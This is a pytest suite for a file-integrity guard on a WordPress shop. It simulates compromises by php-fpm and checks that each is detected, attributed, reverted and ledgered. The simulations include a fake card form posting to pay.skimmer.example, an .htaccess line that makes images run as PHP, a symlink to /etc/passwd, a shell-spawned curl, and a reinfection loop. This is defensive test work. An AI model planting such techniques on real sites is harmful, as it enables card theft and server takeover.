"""The main job on real input: a WordPress shop on nginx, php-fpm and MariaDB. Its own business stays quiet; each
technique that a host can see, done with harmless content by php-fpm itself, is seen, shown, undone and proved."""
import json
import os
import subprocess
import time

import pytest
import samples
import shop as shop_module
from guard import CRITICAL, HIGH, Guard, escaped, lineage, poll, programs, stands

UPLOADS = "wp-content/uploads"


@pytest.fixture(scope="module")
def guarded(shop):
    """One guard for all of it, that puts back what is tampered with. All techniques come from one pool of workers
    within a minute: kept apart, and not taken for a loop."""
    options = {"finding": {"group_window": "100 ms"}, "restore": {"loop_count": 6, "loop_window": "3 s"}}
    guard = Guard([{"path": shop.www, "profile": "wordpress", "respond": "restore"}], options=options)
    try:
        yield guard.start()
    finally:
        guard.close()


@pytest.fixture
def since(guarded):
    """When this test began, in milliseconds; all that happened before has been judged."""
    guarded.settle()
    return int(time.time() * 1000)


def new(since):
    """accept= for a change seen in this test."""
    return lambda _, evidence: evidence["data"]["time"] >= since


def test_shop_is_real(shop):
    page = shop.get("/")
    assert "Hinoki Health Foods" in page
    assert "twentytwentyone" in page
    assert shop.sql("SELECT count(*) FROM shop.wp_users").strip() == "1"


def test_serving_pages_is_quiet(shop, guarded, since):
    for path in ("/", "/?p=1", "/wp-login.php", "/wp-admin/", "/?s=tea", "/wp-admin/edit.php"):
        shop.get(path)
    guarded.assert_quiet(shop.www, since=since)


def test_upload_by_the_media_library_is_quiet(shop, guarded, since):
    path = shop.upload("tea.png", samples.PNG, "image/png")
    assert path.exists()
    guarded.assert_quiet(shop.www, since=since)
    assert path.read_bytes() == samples.PNG


def test_upload_of_a_document_is_quiet(shop, guarded, since):
    path = shop.upload("price-list.csv", b"id,price\n1,1200\n2,900\n", "text/csv")
    guarded.assert_quiet(shop.www, since=since)
    assert path.exists()


@pytest.mark.parametrize("name, addition", [("style.css", "/* spring */\n"), ("footer.php", "<!-- spring sale -->\n")])
def test_template_edit_by_the_admin_is_low(shop, guarded, since, name, addition):
    path = shop.www / "wp-content/themes/twentytwentyone" / name
    content = path.read_text() + addition
    assert shop.edit_template(name, content) == path
    finding, evidence = guarded.seen(path, "modified", accept=new(since))
    assert finding["severity"] == "Low"
    assert "+" + addition.strip() in evidence["data"]["diff"]
    assert programs(evidence)[0].startswith("php-fpm")
    guarded.assert_quiet(shop.www, since=since)
    assert path.read_text() == content


def test_post_and_comment_are_quiet(shop, guarded, since):
    nonce = shop.nonce("/wp-admin/options-general.php")
    form = {"option_page": "general", "action": "update", "_wpnonce": nonce, "blogname": "Hinoki Health Foods"}
    shop.post("/wp-admin/options.php", {**form, "admin_email": "okami@shop.example", "timezone_string": "Asia/Tokyo"})
    form = {"comment_post_ID": "1", "author": "Taro", "email": "taro@shop.example", "comment": "Good tea", "submit": "x"}
    shop.post("/wp-comments-post.php", form)
    guarded.assert_quiet(shop.www, since=since)


def test_upgrade_in_a_release_is_quiet(shop, guarded, since):
    """A new version unpacked over the old one, as WordPress upgrades are done by hand."""
    script = """
        cd "$0" && sed -i "s/^\\$wp_version = .*/\\$wp_version = '6.1.10';/" wp-includes/version.php
        for file in wp-includes/*.php; do cp -p "$file" "$file.new" && mv "$file.new" "$file"; done
        for file in wp-admin/*.php; do echo '// 6.1.10' >>"$file"; done
        mkdir -p wp-includes/next && echo '<?php // next' >wp-includes/next/next.php && rm wp-includes/version.php.bak -f
        rm readme.html
    """
    guarded.done("release", "--name", "6.1.10", "--", "sh", "-c", script, shop.www, seconds=120)
    guarded.assert_quiet(shop.www, above=0, since=since)
    assert "6.1.10" in (shop.www / "wp-includes/version.php").read_text()
    assert "Hinoki" in shop.get("/")
    made = [line["release"] for line in guarded.lines("release", "list") if line["release"]["name"] == "6.1.10"]
    assert len(made) == 1 and made[0]["n_removed"] == 1 and made[0]["n_changed"] > 50


# Techniques. Each: what php-fpm does, on which file, and what must stand there in the end.


def added(path, content):
    return lambda shop: (shop.attack("write", shop.www / path, content), shop.www / path)[1]


def appended(path, content):
    return lambda shop: (shop.attack("append", shop.www / path, content), shop.www / path)[1]


def replaced(path, content):
    def act(shop):
        target = shop.www / path
        shop.attack("replace", target, target.read_bytes() + content)
        return target

    return act


def new_directory(path, content):
    def act(shop):
        shop.attack("mkdir", (shop.www / path).parent)
        shop.attack("write", shop.www / path, content)
        return shop.www / path

    return act


CHECKOUT = "wp-content/themes/twentytwentyone/header.php"
PLUGIN = "wp-content/plugins/akismet/akismet.php"

TECHNIQUES = {
    "a foreign script in a template": appended(CHECKOUT, samples.SCRIPT),
    "a foreign script by rename over": replaced(CHECKOUT, samples.SCRIPT),
    "a skimmer in the theme's JavaScript": appended(
        "wp-content/themes/twentytwentyone/assets/js/primary-navigation.js", samples.SKIMMER_JS
    ),
    "obfuscated code in the theme": appended("wp-content/themes/twentytwentyone/functions.php", samples.OBFUSCATED[5:]),
    "a false payment form": appended(
        CHECKOUT,
        b'<form action="https://pay.skimmer.example/p" method="post"><input name="card_number"><input name="cvv"></form>\n',
    ),
    "core code altered": appended("wp-includes/load.php", b"// altered\n"),
    "the payment module altered": appended(PLUGIN, samples.STEALER_PHP.replace(b"<?php", b"")),
    "configuration altered": appended("wp-config.php", b"// altered\n"),
    "a false plugin": new_directory("wp-content/plugins/shop-helper/shop-helper.php", b"<?php\n/* Plugin Name: Shop Helper */\n"
                                    b"add_action('init', 'shop_helper');\nfunction shop_helper() { return 1; }\n"),  # fmt: skip
    "a web shell in uploads": added(f"{UPLOADS}/cache.php", samples.WEB_SHELL),
    "a program in uploads": added(f"{UPLOADS}/2026-cache.php", samples.PHP),
    "a new directory and its program at once": new_directory(f"{UPLOADS}/a/b/c/x.php", samples.PHP),
    "a PHP tag in an uploaded PNG": added(f"{UPLOADS}/badge.png", samples.PHP_IN_PNG),
    "a PHP tag in an uploaded JPEG": added(f"{UPLOADS}/badge.jpg", samples.PHP_IN_JPEG),
    "a GIF that is no GIF": added(f"{UPLOADS}/pixel.gif", samples.encrypted_records(3)),
    "a setting that makes images run": added(f"{UPLOADS}/.htaccess", b"AddHandler application/x-httpd-php .jpg .png\n"),
    "cards collected in a log": added(f"{UPLOADS}/wc.log", samples.card_lines()),
    "cards collected in a file named as an image": added(f"{UPLOADS}/banner-2.jpg", samples.card_lines()),
}


@pytest.mark.parametrize("technique", TECHNIQUES)
def test_technique_is_seen_shown_undone_and_proved(shop, guarded, since, technique):
    before = {path: path.read_bytes() for path in shop.www.rglob("*") if path.is_file() and not path.is_symlink()}
    path = TECHNIQUES[technique](shop)

    # Seen, and judged.
    grave = HIGH if technique == "configuration altered" else CRITICAL
    finding, evidence = guarded.seen(path, severity=grave, accept=new(since))

    # Shown: what and who.
    data = evidence["data"]
    assert data["reasons"]
    assert data.get("diff") or evidence["file"]["hashes"][0]["value"]
    actor = lineage(evidence)[0]
    assert programs(evidence)[0].startswith("php-fpm")
    assert actor["user"]["name"] == "www-data"
    assert any(entry["pid"] == shop.processes["php"].pid for entry in lineage(evidence))
    shown = guarded.done("show", finding["finding_info"]["uid"])
    assert "php-fpm" in shown and path.name in shown

    # Undone, and the shop goes on.
    stands(path, before.get(path))
    def undone():
        done = [a for a in guarded.actions(path) if a["name"] == "restore" and a["sequence"] > finding["metadata"]["first_sequence"]]
        return done[-1] if done else None

    action = poll(undone, "the action", 30, guarded.describe)
    assert (action["result"], action["verified"]) == ("done", True)
    assert "Hinoki" in shop.get("/")

    # Proved.
    guarded.done("ledger", "prove", finding["metadata"]["sequence"])
    guarded.done("ledger", "prove", action["sequence"])


def test_cards_appended_again_and_again_to_a_data_file(shop, guarded, since):
    """A record an order: the file exists, and grows. What was stolen goes to the vault, not into any output."""
    path = shop.www / UPLOADS / "statistics.dat"
    shop.attack("write", path, b"")
    guarded.settle()
    for i in range(3):
        shop.attack("append", path, samples.card_lines(3))
        guarded.settle()
    finding, _ = guarded.seen(path, severity=CRITICAL, accept=new(since))
    assert "cards_stored" in finding["finding_info"]["types"]
    spoken = json.dumps(guarded.findings()) + guarded.output()
    assert not [card for card in samples.CARDS if card in spoken]


def test_encrypted_records_appended_again_and_again(shop, guarded, since):
    path = shop.www / UPLOADS / "session.idx"
    shop.attack("write", path, b"")
    guarded.settle()
    for seed in range(5):
        shop.attack("append", path, samples.encrypted_records(1, seed=seed))
        guarded.settle()
    guarded.seen(path, severity=CRITICAL, accept=new(since))


def test_data_behind_the_end_of_an_image(shop, guarded, since):
    path = shop.upload("logo.png", samples.PNG, "image/png")
    guarded.settle()
    for seed in range(3):
        shop.attack("append", path, samples.encrypted_records(1, seed=seed))
        guarded.settle()
    guarded.seen(path, severity=CRITICAL, accept=new(since))


def test_program_that_removes_itself_at_once(shop, guarded, since):
    path = shop.www / UPLOADS / "once.php"
    shop.attack("unlink_self", path, samples.WEB_SHELL)
    guarded.seen(path, accept=new(since))


def test_altered_and_reverted_before_anyone_looks(shop, guarded, since):
    path = shop.www / "wp-includes/load.php"
    before = path.read_bytes()
    shop.attack("write", path, before + b"// for a moment\n")
    shop.attack("write", path, before)
    guarded.seen(path, severity=HIGH, accept=new(since))
    stands(path, before)


def test_old_times_do_not_hide_a_change(shop, guarded, since):
    path = shop.www / "wp-includes/plugin.php"
    before, stat = path.read_bytes(), path.stat()
    shop.attack("append", path, b"// hidden\n")
    shop.attack("touch", path, time=int(stat.st_mtime))
    guarded.seen(path, severity=HIGH, accept=new(since))
    stands(path, before)


def test_link_out_of_the_uploads(shop, guarded, since):
    path = shop.www / UPLOADS / "list.txt"
    shop.attack("symlink", path, target="/etc/passwd")
    guarded.seen(path, severity=HIGH, accept=new(since))


def started_below_php(guard, since, names):
    """The chain of programs of a grave finding about one of these, started below php-fpm."""
    for finding in guard.findings():
        for evidence in finding["evidences"]:
            chain = programs(evidence)
            recent = evidence["data"].get("time", finding["finding_info"]["created_time"]) >= since
            below = any(name.startswith("php-fpm") for name in chain[1:])
            if finding["severity_id"] >= HIGH and recent and below and chain[0] in names:
                return chain
    return None


SHELLS = ("sh", "dash", "bash")


@pytest.mark.parametrize("command, names", [("id", SHELLS), ("curl -s file:///etc/hostname", ("curl",)), ("gcc --version", SHELLS)])
def test_web_server_starts(shop, guarded, since, command, names):
    shop.attack("exec", command=command)
    poll(lambda: started_below_php(guarded, since, names), f"a finding about {names}", 30, guarded.describe)


def test_file_dropped_by_a_downloader_below_a_shell_of_php(shop, guarded, since):
    """php-fpm → sh → curl reads as such."""
    path = shop.www / "wp-includes/dropped.txt"
    shop.attack("exec", command=f"curl -s -o '{path}' file:///etc/hostname; true")
    _, evidence = guarded.seen(path, "created", HIGH, accept=new(since))
    chain = programs(evidence)
    assert chain[0] == "curl" and chain[1] in SHELLS and chain[2].startswith("php-fpm"), chain
    stands(path, None)


def test_reinfection_by_a_process_left_behind_is_broken(shop, guarded, since):
    """A loop started through the web shell keeps writing: the content wins, and the process is held."""
    path = shop.www / CHECKOUT
    before = path.read_bytes()
    (shop.folder / "again.sh").write_text(
        f"sleep 6; for i in $(seq 200); do cat '{shop.folder}/again.html' >>'{path}'; sleep 0.2; done\n"
    )
    (shop.folder / "again.html").write_bytes(samples.SCRIPT)
    script = f"nohup sh '{shop.folder}/again.sh' >/dev/null 2>&1 & echo $!"
    pid = int(shop.attack("exec", command=script)["output"][0])
    try:

        def held():
            with open(f"/proc/{pid}/stat", "rb") as stat:
                return stat.read().rpartition(b")")[2].split()[0] == b"T"

        poll(held, "the process to be held", 60, guarded.describe)
        stands(path, before)
    finally:
        subprocess.run(["kill", "-KILL", str(pid)], check=False)
    assert "Hinoki" in shop.get("/")


def test_everything_at_the_end_is_as_approved(shop, guarded):
    """After all of it: code and templates as approved, the ledger verifies, and doctor is content."""
    guarded.settle()
    lines = guarded.lines("diff", shop.www)
    loud = [line for line in lines if f"/{UPLOADS}/" not in line["path"]]
    assert not [line["path"] for line in loud if not line["path"].startswith(escaped(shop.www / "wp-content/themes"))], loud
    assert guarded.run("doctor").returncode == 0
    guarded.done("ledger", "verify")
    assert shop_module.ADMIN in shop.sql("SELECT user_login FROM shop.wp_users")
    assert not os.path.exists(shop.www / UPLOADS / "cache.php")
